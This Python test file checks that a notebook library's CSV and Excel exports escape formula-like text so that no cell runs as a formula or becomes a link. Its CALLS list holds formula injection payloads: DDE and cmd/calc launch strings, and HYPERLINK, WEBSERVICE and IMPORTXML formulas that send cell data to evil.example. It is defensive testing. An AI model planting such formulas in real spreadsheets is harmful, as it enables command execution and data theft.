"""Files for spreadsheets, from every table of ours and with every text in every column: no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from fusion_nb import UserError
from fusion_nb.core import Ref
from fusion_nb.journal.rows import RunRow
from fusion_nb.views.frame import frame, models_frame, runs_frame
from tests import states
from tests.attacks import CONTROLS, VECTORS, WRITTEN
from tests.test_accessor import acts

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "'", '"', "\x00", "\x1b", "\x7f")
CALLS = ("cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', 'HYPERLINK("https://evil.example/?"&A1,"x")', 'WEBSERVICE("https://evil.example")',
    "1+1", 'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', "SUM(1+1)*cmd|' /C calc'!A0", "msexcel|'\\..\\..\\cmd.exe /c calc'!A0", "rundll32|'x'!A")  # fmt: skip


def texts() -> list[str]:
    made = [f"{before}{sign}{call}" for before in BEFORE for sign in SIGNS for call in CALLS]
    lists = []
    if VECTORS.is_dir():
        lists = [
            *(VECTORS / "csv-payloads.txt").read_text(encoding="utf-8").splitlines(),
            *json.loads((VECTORS / "blns.json").read_text(encoding="utf-8")),
        ]
    return [*made, *lists, *CONTROLS, *WRITTEN]


def tables() -> dict[str, pd.DataFrame]:
    """All of our tables with each of the texts in every column that holds words."""
    models = [SimpleNamespace(ref=Ref("acme", t), name=t, context=1, modalities=(t,), prompt_usd_per_mtok=Decimal(1), completion_usd_per_mtok=None, source=t, created=t) for t in texts()]  # fmt: skip
    past = [RunRow(t, "2026-03-01T10:15:00+00:00", t, t, (t,), t, t, Decimal(1), of=t) for t in texts()]
    return {
        "calls": pd.concat([frame(states.hostile(text)) for text in texts()[::7]], ignore_index=True),
        "runs": runs_frame(past),
        "models": models_frame(models).assign(raw=pd.Series(texts(), dtype=object)),
    }


@pytest.fixture(scope="module")
def written() -> dict[str, pd.DataFrame]:
    return tables()


@pytest.mark.parametrize("table", ["calls", "runs", "models"])
def test_no_table_has_a_formula_in_csv(written: dict[str, pd.DataFrame], table: str) -> None:
    """No cell of prompt, model, error or text is a formula; cut at semicolons or tabs instead, none calls anything."""
    df = written[table]
    text = df.fusion.to_csv()
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(df) + 1
    for separator in ",;\t":
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        # A list's `- item` is left as it is inside of a text: at worst it is a sum.
        assert [cell for cell in cells if acts(cell) and (separator == "," or cell.lstrip()[0] not in "+-＋－")] == []
        assert [
            cell for cell in cells if acts(cell) and re.search(r"[(|!]", cell.partition("\n")[0].partition('",')[0])
        ] == []


@pytest.mark.parametrize("engine", ["xlsxwriter", "openpyxl"])
@pytest.mark.parametrize("table", ["calls", "runs", "models"])
def test_no_table_has_a_formula_in_excel(
    written: dict[str, pd.DataFrame], table: str, engine: str, tmp_path: Path
) -> None:
    """Opened again, every cell is a text, a number, a date or empty; none a formula, none a link."""
    df = written[table]
    path = tmp_path / "out.xlsx"
    df.fusion.to_excel(path, engine=engine)
    cells = [cell for row in openpyxl.load_workbook(path)["fusion"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d", "inlineStr"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert [
        cell.value for cell in cells if isinstance(cell.value, str) and acts(cell.value) and not cell.quotePrefix
    ] == []


def test_excel_reads_back_what_was_written(tmp_path: Path) -> None:
    """A text that looks like a formula comes back to the letter from Excel; from CSV behind an apostrophe; from Parquet as it is."""
    script = states.Script()
    script.reply(states.CLAUDE, "=1+1")
    script.reply(states.GEMINI, "two;=lines\n- and a list")
    df = frame(script.close())
    df.fusion.to_excel(tmp_path / "out.xlsx")
    assert list(pd.read_excel(tmp_path / "out.xlsx").text) == list(df.text)
    assert list(pd.read_csv(io.StringIO(df.fusion.to_csv())).text) == ["'=1+1", "two;'=lines\n- and a list"]
    df.to_parquet(tmp_path / "out.parquet")
    assert list(pd.read_parquet(tmp_path / "out.parquet").text) == list(df.text)


def test_tables_without_calls_say_so() -> None:
    """`runs().fusion.cost()` is a sentence, not a traceback of ours."""
    with pytest.raises(UserError, match="no calls"):
        runs_frame([RunRow("r", "2026-03-01T10:15:00+00:00")]).fusion.cost()
